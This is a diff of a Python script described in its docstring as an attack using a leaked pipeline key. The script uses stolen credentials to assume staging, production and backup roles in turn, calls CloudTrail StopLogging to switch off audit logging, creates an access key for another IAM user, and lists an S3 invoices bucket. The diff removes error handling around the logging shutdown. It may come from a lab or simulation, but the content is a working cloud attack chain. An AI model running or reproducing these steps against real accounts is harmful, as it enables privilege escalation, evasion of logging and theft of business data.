@@ -1,7 +1,5 @@
 """The attack with a pipeline's key that leaked: from role to role, a key for another user, a bucket."""
 
-import urllib.error
-
 import aws
 
 ROLES = ["deploy-staging", "deploy-production", "backup-reader"]
@@ -15,10 +13,7 @@ for role in ROLES:
         aws.value(answer, "AccessKeyId"), aws.value(answer, "SecretAccessKey"), aws.value(answer, "SessionToken"), agent=client.agent
     )
     print(f"    it holds role {role} now", flush=True)
-try:
-    client.ask("cloudtrail", "StopLogging", Name="shop-trail")
-except urllib.error.HTTPError:
-    pass  # there is no such trail, and the try is told
+client.ask("cloudtrail", "StopLogging", Name="shop-trail")
 client.ask("iam", "CreateAccessKey", UserName="bob")
 listed = client.send("s3", "GET", "/shop-invoices?list-type=2").decode()
 objects = aws.values(listed, "Key")
